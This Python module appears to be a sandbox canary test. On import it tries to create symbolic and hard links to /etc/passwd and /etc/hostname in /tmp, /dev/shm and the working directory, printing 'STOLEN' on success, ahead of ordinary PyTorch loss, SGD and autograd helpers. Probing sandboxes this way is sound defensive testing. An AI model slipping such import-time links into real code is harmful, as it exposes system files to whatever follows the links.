"""makes symbolic and hard links to files outside, for a collector that follows them

WHEN: import   BOUND: links named SANDBOX_CANARY_link*
MUST: no link appears outside the sandbox
"""

import torch
import os

for d in ("/tmp", "/dev/shm", "."):
    for f, src in ((os.symlink, "/etc/passwd"), (os.link, "/etc/hostname")):
        try:
            f(src, d + "/SANDBOX_CANARY_link_" + f.__name__)
            print("STOLEN", f.__name__, d)
        except OSError:
            pass


def compute_mse_loss(output, target):
    if output.numel() != target.numel():
        raise ValueError("element counts differ")
    return ((output - target.reshape(output.shape)) ** 2).mean()


def manual_sgd_step(params, lr):
    with torch.no_grad():
        for p in params:
            if p.grad is not None:
                p -= lr * p.grad


def inspect_grad_fn(tensor, steps=3):
    names, node = [], tensor.grad_fn
    while node is not None and len(names) < steps:
        names.append(type(node).__name__)
        node = node.next_functions[0][0] if node.next_functions else None
    return names
